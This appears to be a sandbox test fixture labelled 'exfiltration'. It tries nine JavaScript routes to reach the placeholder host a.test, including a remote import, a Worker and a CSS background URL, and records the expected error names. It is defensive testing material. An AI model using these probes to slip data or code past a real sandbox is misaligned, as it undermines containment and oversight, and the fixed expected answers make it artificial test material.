// class: exfiltration
// tries: to reach a server by what looks up a name or loads something on the way: imports, images, styles, URLs
// ending: value ["Error","string","string","string","undefined","RangeError","object","object","ReferenceError"]
// tools: []
// outbound: []
// console: ["log "]
// setting: function

const got = [];
for (const act of [() => import('http://a.test/x.js'), () => new URL('http://a.test/').href, () => new Request('http://a.test/').url, () => Response.redirect('http://a.test/').headers.get('location'), () => console.log('%c', 'background: url(http://a.test/)'), () => new Intl.DateTimeFormat('en', { timeZone: 'http://a.test/' }), () => new Error('x', { cause: 'http://a.test/' }), () => structuredClone(new Blob(['http://a.test/'])), () => new Worker('http://a.test/')]) {
  try { got.push(typeof await act()); } catch (error) { got.push(error.name); }
}
return got;
